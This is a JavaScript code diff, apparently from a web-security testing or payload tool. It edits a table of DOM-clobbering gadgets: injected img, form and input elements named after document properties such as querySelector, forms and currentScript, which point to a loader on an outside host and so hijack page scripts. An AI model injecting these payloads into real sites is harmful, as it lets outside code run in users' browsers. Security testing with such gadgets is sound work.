@@ -45,6 +45,8 @@ const kGadgets = {
     ${each(['baseURI', 'URL', 'documentURI', 'scripts', 'forms', 'embeds', 'links', 'referrer', 'domain', 'location'], (name) =>
     `<img name="${name}" src="${host}${kLoader}">`)}
     <base href="${host}/assets/external/">`,
+  'what finds codes': (host) => each(['matches', 'querySelector', 'querySelectorAll', 'host', 'isConnected'], (name) =>
+    `<img name="${name}" src="${host}${kLoader}"><form name="${name}"></form>`),
   forms: (host) => `<form name="currentScript"><input name="src" value="${host}${kLoader}"></form>
     <form ${both('svc')}>${each(['host', 'part', 'load', 'look', 'names', 'players', 'playlist', 'waiting', 'provide', 'plugins',
     'choices'], (name) => `<input name="${name}" value="${host}">`)}</form>`,
@@ -55,7 +57,7 @@ const kGadgets = {
 };
 // Without these no script of any page works: nothing plays, but nothing of the user's runs.
 const kHarsh = {
-  'what scripts call': (host) => each(['querySelector', 'querySelectorAll', 'createElement', 'getElementById', 'addEventListener',
+  'what scripts call': (host) => each(['createElement', 'getElementById', 'addEventListener',
     'body', 'head', 'documentElement', 'defaultView'], (name) => `<img name="${name}" src="${host}${kLoader}">`),
 };
 
